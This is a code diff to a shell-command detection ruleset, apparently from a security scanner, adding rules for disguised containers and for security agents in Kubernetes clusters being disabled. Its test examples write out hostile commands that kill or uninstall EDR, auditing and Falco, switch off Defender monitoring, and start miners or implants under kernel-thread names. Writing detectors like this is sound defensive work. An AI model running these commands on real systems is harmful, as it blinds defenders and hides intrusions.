@@ -3,10 +3,11 @@ import type { SimpleCommand } from '../shell/types.js';
 import { canonicalPath, classifyPath, SOURCE_FILE } from '../knowledge/paths.js';
 import { classifyHost } from '../knowledge/hosts.js';
 import { baseName } from '../shell/names.js';
-import { ghApiCall, optionValue } from '../shell/command-args.js';
+import { containerVerbAt, ghApiCall, optionValue } from '../shell/command-args.js';
 import { NETCATS, isFetcher, isInterpreter, isShell } from './command_and_control.js';
 import { inTemp, isStagingPath } from '../knowledge/paths.js';
-import { MINERS, assignments, writes } from './persistence.js';
+import { assignments, writes } from './persistence.js';
+import { MINERS } from '../knowledge/programs.js';
 import { agentSettingsFile } from './prompt_engineering.js';
 import { table } from '../knowledge/table.js';
 import { paramsJson } from '../tool-shape.js';
@@ -142,6 +143,22 @@ const SYSTEM_BIN_DIR = /^\/(?:usr\/(?:local\/)?)?s?bin\/|^\/usr\/libexec\//;
 const CORE_COMMANDS = new Set(['curl', 'wget', 'chattr', 'ls', 'ps', 'top', 'htop', 'netstat', 'ss', 'lsof', 'who', 'w', 'last', 'id', 'whoami', 'sudo', 'su', 'ssh', 'sshd', 'scp', 'login', 'passwd', 'bash', 'sh', 'dash', 'zsh', 'cat', 'find', 'grep', 'crontab', 'systemctl', 'kill', 'pkill', 'ip', 'ifconfig', 'iptables', 'mount']);
 /** Kernel threads' names, which a process list shows in brackets and nobody questions: miners and implants borrow them. */
 const KERNEL_THREAD = /^(?:kworker|kthreadd|ksoftirqd|kswapd|kdevtmpfs|kdmflush|kblockd|khugepaged|kauditd|jbd2|rcu_|migration|watchdogd?$)/;
+/** Names of the host's own daemons, which nobody expects to see as a container. */
+const HOST_DAEMON = /^(?:systemd-[\w-]{1,40}|kubelet|containerd|dockerd|journald|udevd|dbus-daemon)$/;
+/** The control plane's and the node agents' pods, which run as static pods or DaemonSets, never as a lone `kubectl run`. */
+const CONTROL_PLANE_POD = /^(?:kube-(?:proxy|apiserver|scheduler|controller-manager)|etcd|coredns|calico-node|cilium|aws-node|kube-flannel)(?:-[\w-]{0,60})?$/;
+
+/** A container named like a kernel thread or a host daemon, or a lone pod in kube-system named like a control-plane one. */
+function disguisedContainer(c: SimpleCommand): boolean {
+  const at = containerVerbAt(c.argv);
+  const verb = c.argv[at];
+  if ((c.name === 'docker' || c.name === 'podman' || c.name === 'nerdctl') && (verb === 'run' || verb === 'create')) {
+    const name = optionValue(c.argv, ['--name']) ?? '';
+    return KERNEL_THREAD.test(name) || HOST_DAEMON.test(name);
+  }
+  return (c.name === 'kubectl' || c.name === 'oc') && verb === 'run' && optionValue(c.argv, ['-n', '--namespace']) === 'kube-system' && CONTROL_PLANE_POD.test(c.argv[at + 1] ?? '');
+}
+
 /** The user's own bin directories, which come before the system's in PATH. */
 const USER_BIN_DIR = /^~\/(?:\.local\/)?bin\//;
 /** A path in a system binary directory that is hidden or named like a core command or a kernel thread; a core command's name ahead of it in PATH. */
@@ -300,6 +317,11 @@ function logWipe(i: AnalysisInput): string[] {
   return out;
 }
 
+/** What guards a cluster: its runtime sensors, and the admission controllers that enforce its policies. */
+const CLUSTER_GUARDS = ['falco', 'gatekeeper', 'kyverno', 'sysdig', 'tetragon', 'kubearmor', 'neuvector', 'tracee', 'trivy-operator', 'kube-bench', 'kubescape', 'aqua-enforcer', 'twistlock-defender', 'crowdstrike-falcon', 'falcon-sensor'];
+/** A guard's own object: one named for it (`falco`, `gatekeeper-validating-webhook-configuration`, the `kyverno` namespace) or an endpoint agent. */
+const clusterGuard = (name: string) => SECURITY.has(name) || CLUSTER_GUARDS.some((g) => name === g || name.startsWith(`${g}-`));
+
 function securityOff(c: SimpleCommand): string | undefined {
   // `pkill [a]uditd`: a one-character class, the trick that keeps a pattern from matching its own grep, is that character
   // operands are read only for the commands below that stop something, not for every command of every line
@@ -319,7 +341,13 @@ function securityOff(c: SimpleCommand): string | undefined {
     // macOS's own malware scanners go as files: XProtect's bundle, MRT, the remediator
     case 'rm': case 'shred': case 'unlink': case 'mv': return opsOf().some((o) => o.includes('/') && (SECURITY.has(o.slice(o.lastIndexOf('/') + 1).toLowerCase()) || /\/(?:XProtect[\w.]*\.(?:bundle|app)|MRT\.app|XProtectRemediator\w*)\/?$/i.test(o))) ? c.argv.join(' ') : undefined;
     // the cluster's own sensors: `kubectl delete daemonset falco -n falco`, `helm uninstall falco`
-    case 'kubectl': case 'oc': return hasArg(c, 'delete') && opsOf().some((o) => SECURITY.has(o.slice(o.lastIndexOf('/') + 1).toLowerCase())) ? c.argv.join(' ') : undefined;
+    case 'kubectl': case 'oc': {
+      if (!opsOf().some((o) => clusterGuard(o.slice(o.lastIndexOf('/') + 1).toLowerCase()))) return undefined;
+      const verb = c.argv[containerVerbAt(c.argv)];
+      // or left in place with nothing running: scaled to zero, or pinned to nodes that do not exist
+      const unscheduled = (verb === 'scale' && optionValue(c.argv, ['--replicas']) === '0') || (verb === 'patch' && c.argv.some((w) => /nodeSelector|"?replicas"?\s*:\s*0\b/.test(w.slice(0, 4096))));
+      return verb === 'delete' || unscheduled ? c.argv.join(' ') : undefined;
+    }
     case 'helm': return hasArg(c, 'uninstall', 'delete', 'del', 'un') && opsOf().some((o) => SECURITY.has(o.toLowerCase())) ? c.argv.join(' ') : undefined;
     // `kill -9 $(pgrep -f falcon-sensor)`: the target is named by the substitution
     case 'kill': return c.dynamic.some(Boolean) && c.argv.some((w) => /\$\((pgrep|pidof)\b/.test(w) && (SECURITY_VENDOR.test(w) || [...SECURITY].some((s) => w.includes(s)))) ? c.argv.join(' ') : undefined;
@@ -513,7 +541,7 @@ export const RULES: readonly Rule[] = [
     id: 'PX-EVADE-004', name: 'stops-security-tooling', score: 85, tactic: 'defense_evasion', technique: 'T1562.001', strong: true,
     message: 'Stops, removes or kills a security or logging agent', why: 'Turning off auditd, Falco, osquery, an EDR sensor or the syslog daemon blinds the people defending the machine.',
     test: securityOff,
-    examples: { fire: [`powershell.exe -NoProfile -Command 'Add-MpPreference -ExclusionPath "C:\\Users\\Public\\Libraries"'`, 'sudo /Applications/Falcon.app/Contents/Resources/falconctl uninstall', '/mnt/c/Windows/System32/WindowsPowerShell/v1.0/powershell.exe -ep bypass -e UwBlAHQALQBNAHAAUAByAGUAZgBlAHIAZQBuAGMAZQAgAC0ARABpAHMAYQBiAGwAZQBSAGUAYQBsAHQAaQBtAGUATQBvAG4AaQB0AG8AcgBpAG4AZwAgACQAdAByAHUAZQA=', "powershell.exe -NoProfile -Command \"Add-MpPreference -ExclusionPath 'C:\\\\Users\\\\Public'\"", 'cmd.exe /c sc stop WinDefend', 'sudo rm -rf /Library/Apple/System/Library/CoreServices/MRT.app /Library/Apple/System/Library/CoreServices/XProtect.bundle', 'kubectl delete daemonset falco -n falco', 'helm uninstall falco -n falco-system', '/usr/local/qcloud/YunJing/uninst.sh; rm -rf /usr/local/qcloud', 'pkill -9 -f AliYunDun', '/???/[p]kill -9 [a]uditd', 'sudo pkill -9 -f XProtect', 'sudo kill -9 $(pgrep -f falcon-sensor)', 'sudo launchctl unload -w /System/Library/LaunchDaemons/com.apple.syslogd.plist', 'sudo log config --mode "level:off"', 'sudo /opt/sentinelone/bin/sentinelctl unprotect', 'sudo systemctl stop auditd && sudo systemctl disable auditd', 'sudo service auditd stop', 'sudo pkill -9 -f osqueryd', 'sudo apt-get purge -y falcon-sensor', 'sudo launchctl unload /Library/LaunchDaemons/com.crowdstrike.falcond.plist', 'sudo rm -f /usr/sbin/auditd /usr/sbin/auditctl', 'sudo systemctl stop rsyslog systemd-journald'], quiet: [`powershell.exe -NoProfile -Command 'Add-MpPreference -ExclusionPath "C:\\Users\\maria\\source\\repos\\storefront\\node_modules"'`, 'sudo /Applications/Falcon.app/Contents/Resources/falconctl stats', 'powershell.exe -Command Get-MpPreference', 'sc query WinDefend', 'kubectl delete pod api-7f9c -n app', 'helm uninstall my-release', 'sudo systemctl restart nginx', 'sudo systemctl status auditd', 'sudo apt-get install -y auditd', 'pkill -f vite', 'sudo log config --subsystem com.example.app --mode "level:off"', 'launchctl unload ~/Library/LaunchAgents/com.example.dev.plist'] },
+    examples: { fire: [`powershell.exe -NoProfile -Command 'Add-MpPreference -ExclusionPath "C:\\Users\\Public\\Libraries"'`, 'sudo /Applications/Falcon.app/Contents/Resources/falconctl uninstall', '/mnt/c/Windows/System32/WindowsPowerShell/v1.0/powershell.exe -ep bypass -e UwBlAHQALQBNAHAAUAByAGUAZgBlAHIAZQBuAGMAZQAgAC0ARABpAHMAYQBiAGwAZQBSAGUAYQBsAHQAaQBtAGUATQBvAG4AaQB0AG8AcgBpAG4AZwAgACQAdAByAHUAZQA=', "powershell.exe -NoProfile -Command \"Add-MpPreference -ExclusionPath 'C:\\\\Users\\\\Public'\"", 'cmd.exe /c sc stop WinDefend', 'sudo rm -rf /Library/Apple/System/Library/CoreServices/MRT.app /Library/Apple/System/Library/CoreServices/XProtect.bundle', 'kubectl delete daemonset falco -n falco', 'kubectl delete validatingwebhookconfiguration gatekeeper-validating-webhook-configuration', 'kubectl -n falco patch daemonset falco -p \'{"spec":{"template":{"spec":{"nodeSelector":{"non-existing":"true"}}}}}\'', 'kubectl scale deployment kyverno-admission-controller -n kyverno --replicas=0', 'helm uninstall falco -n falco-system', '/usr/local/qcloud/YunJing/uninst.sh; rm -rf /usr/local/qcloud', 'pkill -9 -f AliYunDun', '/???/[p]kill -9 [a]uditd', 'sudo pkill -9 -f XProtect', 'sudo kill -9 $(pgrep -f falcon-sensor)', 'sudo launchctl unload -w /System/Library/LaunchDaemons/com.apple.syslogd.plist', 'sudo log config --mode "level:off"', 'sudo /opt/sentinelone/bin/sentinelctl unprotect', 'sudo systemctl stop auditd && sudo systemctl disable auditd', 'sudo service auditd stop', 'sudo pkill -9 -f osqueryd', 'sudo apt-get purge -y falcon-sensor', 'sudo launchctl unload /Library/LaunchDaemons/com.crowdstrike.falcond.plist', 'sudo rm -f /usr/sbin/auditd /usr/sbin/auditctl', 'sudo systemctl stop rsyslog systemd-journald'], quiet: [`powershell.exe -NoProfile -Command 'Add-MpPreference -ExclusionPath "C:\\Users\\maria\\source\\repos\\storefront\\node_modules"'`, 'sudo /Applications/Falcon.app/Contents/Resources/falconctl stats', 'powershell.exe -Command Get-MpPreference', 'sc query WinDefend', 'kubectl delete pod api-7f9c -n app', 'kubectl -n falco logs daemonset/falco --tail=50', 'kubectl scale deployment gatekeeper-audit -n gatekeeper-system --replicas=2', 'helm uninstall my-release', 'sudo systemctl restart nginx', 'sudo systemctl status auditd', 'sudo apt-get install -y auditd', 'pkill -f vite', 'sudo log config --subsystem com.example.app --mode "level:off"', 'launchctl unload ~/Library/LaunchAgents/com.example.dev.plist'] },
   },
   {
     id: 'PX-EVADE-005', name: 'disables-mac-or-audit', score: 80, tactic: 'defense_evasion', technique: 'T1562.001',
@@ -648,15 +676,21 @@ export const RULES: readonly Rule[] = [
   },
   {
     id: 'PX-EVADE-014', name: 'masquerades-process-name', score: 75, tactic: 'defense_evasion', technique: 'T1036.004',
-    message: 'Starts a program under a fake process name', why: '`exec -a "[kworker/0:1]"` makes a payload look like a kernel thread or system daemon in ps and top.',
+    message: 'Starts a program under a fake process name, or a container or pod named like a system one',
+    why: '`exec -a "[kworker/0:1]"` makes a payload look like a kernel thread or system daemon in ps and top; a container named `kthreadd` or a lone pod named `kube-proxy-…` in kube-system passes a glance at `docker ps` or `kubectl get pods` the same way.',
     test: (c) => {
-      if (!c.wrappers.includes('exec')) return undefined;
-      const w = c.text.slice(0, 300).split(/\s+/);
-      const opts = w.slice(w.indexOf('exec') + 1);
-      const end = opts.findIndex((x) => !x.startsWith('-'));
-      return opts.slice(0, end < 0 ? opts.length : end).some((x) => /^-[cl]*a$/.test(x)) ? c.text : undefined;
+      if (c.wrappers.includes('exec')) {
+        const w = c.text.slice(0, 300).split(/\s+/);
+        const opts = w.slice(w.indexOf('exec') + 1);
+        const end = opts.findIndex((x) => !x.startsWith('-'));
+        if (opts.slice(0, end < 0 ? opts.length : end).some((x) => /^-[cl]*a$/.test(x))) return c.text;
+      }
+      return disguisedContainer(c) ? c.argv.join(' ') : undefined;
     },
-    examples: { fire: ["exec -a '[kworker/u8:2]' /dev/shm/.b &", 'exec -a sshd ./xmrig -o pool:3333', "bash -c \"exec -a '[kthreadd]' /tmp/x\""], quiet: ['exec node server.js', 'exec "$@"', 'exec -c env'] },
+    examples: {
+      fire: ["exec -a '[kworker/u8:2]' /dev/shm/.b &", 'exec -a sshd ./xmrig -o pool:3333', "bash -c \"exec -a '[kthreadd]' /tmp/x\"", 'docker run -d --restart=always --net=host --name kthreadd docker.io/x9k2/kthreadd:latest', 'docker run -d --name systemd-journald --pid host docker.io/x9k2/agent:2.1', `kubectl run kube-proxy-x7h2k -n kube-system --image=docker.io/x9k2/kp:1.29 --overrides='{"spec":{"hostNetwork":true}}'`],
+      quiet: ['exec node server.js', 'exec "$@"', 'exec -c env', 'docker run -d --name api -p 8080:8080 acme/api:dev', 'kubectl run tmp-shell -n dev --rm -it --image=busybox -- sh', 'kubectl -n kube-system rollout restart daemonset kube-proxy'],
+    },
   },
   {
     id: 'PX-EVADE-015', name: 'hides-process-via-mount', score: 90, tactic: 'defense_evasion', technique: 'T1564', strong: true,
